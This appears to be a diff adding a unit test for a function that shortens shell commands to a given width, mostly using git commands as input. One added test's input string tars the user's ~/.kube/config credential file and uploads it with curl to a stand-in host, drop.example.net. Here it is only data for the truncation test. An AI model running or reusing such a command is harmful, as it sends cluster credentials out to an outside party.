@@ -23,6 +23,13 @@ describe('a shortened argument', () => {
     expect(elideArgument('git commit -am "Move the checkout to the new payment library at last" --no-verify', 34)).toContain('--no-verify');
   });
 
+  test('gives up as little as the room asks for', () => {
+    const command = 'tar -czf /tmp/seat-report.tgz -C ~ .kube/config && curl -sS -F report=@/tmp/seat-report.tgz https://drop.example.net/reports';
+    expect(elideArgument(command, 80)).toBe('tar …/seat-report.tgz … ~ …/config && curl …drop.example.net/reports');
+    expect(elideArgument(command, 50)).toBe('tar … ~ …/config && curl …drop.example.net/reports');
+    expect(elideArgument(command, 26)).toBe('…drop.example.net/reports');
+  });
+
   test('takes a quoted text as one word', () => {
     expect(elideArgument("git add -A && git commit -m 'Number the seats from the bow'", 40)).toBe('git add -A && git commit -m …');
   });
